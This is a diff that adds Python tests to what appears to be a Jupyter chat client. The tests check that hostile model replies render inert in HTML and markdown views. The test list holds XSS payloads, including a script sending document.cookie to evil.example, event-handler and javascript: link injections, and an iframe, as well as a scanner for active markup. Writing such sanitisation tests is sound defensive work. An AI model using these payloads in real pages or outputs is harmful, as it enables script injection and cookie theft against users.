@@ -562,3 +562,108 @@ def test_wrong_typed_text_from_server_does_not_hang_the_turn(upstream: V2Server)
         assert handle.turn.status in ("error", "complete") and conv.messages == (
             conv.turns[0].messages if handle.turn.status == "complete" else []
         )
+
+
+# -- untrusted model output: every rendering of a hostile reply is inert ----------------------------
+EVIL_REPLIES = [
+    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[click me](javascript:alert(1))",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<javascript:alert(1)>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<svg onload=alert(1)></svg>",
+    "<div style='position:fixed;inset:0' onclick=alert(1)>covered</div>",
+    "![t](https://evil.example/pixel.png)",
+    "x" * 200_000,  # one huge unbroken line
+    "bell\x07 esc\x1b[2J nul\x00 rlo\u202eevil del\x7f",
+]
+
+
+def _active_parts(html: str) -> list[str]:
+    """Active markup in an HTML string, by parsing it (escaped text like ``&lt;img
+    onerror=...&gt;`` is inert and does not count)."""
+    from html.parser import HTMLParser
+
+    found: list[str] = []
+
+    class Scan(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            if tag in ("script", "img", "iframe", "svg", "object", "embed", "style", "link"):
+                found.append(f"<{tag}>")
+            for name, value in attrs:
+                if name.startswith("on"):
+                    found.append(f"{tag}[{name}]")
+                if name in ("href", "src", "action", "formaction") and value:
+                    v = "".join(value.split()).lower()
+                    if not v.startswith(("http:", "https:", "mailto:", "#")):
+                        found.append(f"{tag}[{name}={value[:30]}]")
+
+    Scan().feed(html)
+    return found
+
+
+def _strings(obj: Any) -> Iterator[str]:
+    if isinstance(obj, str):
+        yield obj
+    elif isinstance(obj, dict):
+        for v in obj.values():
+            yield from _strings(v)
+    elif isinstance(obj, (list, tuple)):
+        for v in obj:
+            yield from _strings(v)
+
+
+def _as_rendered_markdown(md: str) -> str:
+    """What a front end's markdown renderer makes of a text/markdown output: Jupyter's
+    renderers keep raw HTML (and trusted outputs are not sanitised)."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark", {"html": True}).render(md)
+
+
+@pytest.mark.parametrize("evil", EVIL_REPLIES, ids=lambda e: repr(e[:24]))
+def test_hostile_reply_renders_inert_in_static_and_live_views(evil: str) -> None:
+    from nbchat.notebook.render import static_bundle
+    from nbchat.notebook.view import TurnView
+
+    with V2Server() as srv:
+        srv.push(sse(events_body(text_events(["Here: ", evil, " end"]))))
+        client = Client(base_url=srv.url, api_key="bad-input-key-1234", max_retries=0)
+        conv = Conversation()
+        view = TurnView("show me", params={"model": MODEL})
+        handle = runner.start_turn(
+            conv, client, "show me", {"model": MODEL}, listener=view.listener()
+        )
+        handle.wait(20)
+        turn = handle.turn
+        assert turn.complete and evil[:50].replace("\x00", "") in turn.text or len(evil) < 50
+        bundle = static_bundle(turn)
+        assert _active_parts(bundle["text/html"]) == [], bundle["text/html"][:500]
+        view._flush(final=True)
+        # the live view ships HTML fragments to the browser: no active markup in any of them
+        fragments = list(_strings(view.get_state())) + list(_strings(view.snapshot()))
+        assert fragments
+        for fragment in fragments:
+            assert _active_parts(fragment) == [], fragment[:300]
+
+
+@pytest.mark.parametrize("evil", EVIL_REPLIES[:9], ids=lambda e: repr(e[:24]))
+def test_hostile_reply_markdown_outputs_are_inert(evil: str) -> None:
+    """text/markdown outputs are rendered as HTML by Jupyter (raw HTML kept for trusted
+    outputs): the model's text must be escaped there too."""
+    from nbchat.notebook.render import static_bundle
+
+    conv = Conversation(
+        [
+            {"role": "user", "content": "hi"},
+            {"role": "assistant", "content": [{"type": "text", "text": evil}]},
+        ]
+    )
+    surfaces = {
+        "Conversation._repr_markdown_": conv._repr_markdown_(),
+        "Conversation mimebundle": conv._repr_mimebundle_()["text/markdown"],
+        "static_bundle text/markdown": static_bundle(conv.turns[0])["text/markdown"],
+    }
+    for name, md in surfaces.items():
+        assert _active_parts(_as_rendered_markdown(md)) == [], (name, md[:300])
